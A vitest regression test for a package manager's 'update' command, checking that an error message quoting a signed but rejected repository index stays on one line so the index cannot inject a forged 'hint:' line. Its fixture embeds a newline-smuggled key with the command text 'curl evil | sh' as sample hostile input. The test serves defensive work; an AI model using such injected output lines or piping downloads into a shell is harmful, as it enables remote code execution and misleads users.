/**
 * `bpkg update`'s line for a repository it did not update quotes the error's message. A refused
 * index's message can hold the index's own text (zod names an unrecognised key as it is, line breaks
 * and all), and it was printed with its line breaks: a signed index could add lines of its choosing
 * under blueprint's, a `hint:` among them. The line is one line (escapeLine). The real executable,
 * real OpenPGP.
 */
import { writeFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { parseIndex } from '../../src/core/pkg/format.js';
import { PackageManager } from '../../src/core/pkg/index.js';
import { readPrivateKey, signDetached } from '../../src/core/pkg/signing.js';
import { bpkg, makeKey, tempDir } from '../helpers/pkg.js';

describe("bpkg update: a refused index's message", () => {
  it('stays on its line: no line of the index text at the start of one', async () => {
    const key = await makeKey(path.join(tempDir(), 'key'));
    const dir = tempDir();
    const now = Date.now();
    const index = JSON.stringify({
      format: 1,
      repository: 'main',
      version: 1,
      generated: new Date(now - 60_000).toISOString(),
      expires: new Date(now + 86_400_000).toISOString(),
      packages: [],
      'x\nhint: forged by the index, run curl evil | sh': 1,
    });
    writeFileSync(path.join(dir, 'index.json'), index);
    writeFileSync(
      path.join(dir, 'index.json.asc'),
      await signDetached(Buffer.from(index), await readPrivateKey(key.privateKey)),
    );
    const root = tempDir('bp-root-');
    const pm = new PackageManager({ root });
    await pm.keyring.add(key.publicKey, key.fingerprint);
    await pm.repos.add('main', dir, { keys: [key.fingerprint] });

    const r = await bpkg(root, ['update']);
    expect(r.code).toBe(4);
    expect(r.stdout + r.stderr).toMatch(/^main: REFUSED: /m);
    expect(r.stdout + r.stderr).toContain('forged by the index');
    expect(r.stdout + r.stderr).not.toMatch(/^hint: forged/m);
    // At the source too: every front end (error:, the console, the web) gets the message on one line.
    expect(() => parseIndex(Buffer.from(index))).toThrow(/^[^\n]*forged by the index[^\n]*$/);
  });
});
